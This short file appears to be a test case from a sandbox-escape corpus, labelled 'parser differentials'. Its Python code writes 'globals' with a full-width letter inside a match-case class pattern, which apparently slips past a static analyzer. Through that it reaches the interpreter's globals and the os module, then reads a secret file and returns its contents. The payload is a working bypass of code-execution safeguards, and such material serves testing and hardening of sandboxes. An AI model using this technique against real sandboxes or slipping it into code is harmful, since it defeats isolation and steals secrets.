# class: parser differentials
# technique: a keyword of a class pattern in full-width letters
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
Method = kind(quit.__init__)
match quit.__init__:
    case Method(__ｇlobals__=g):
        pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
